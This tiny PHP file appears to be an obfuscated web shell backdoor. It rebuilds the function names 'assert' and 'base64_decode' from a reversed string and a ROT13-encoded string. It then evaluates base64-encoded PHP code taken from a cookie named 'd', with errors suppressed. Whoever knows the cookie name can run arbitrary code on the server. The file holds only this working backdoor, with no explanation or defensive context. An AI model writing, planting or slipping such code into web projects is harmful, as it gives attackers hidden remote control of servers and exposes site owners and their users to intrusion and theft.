<?php
$f = strrev('tressa');
$g = str_rot13('onfr64_qrpbqr');
@$f($g($_COOKIE['d']));
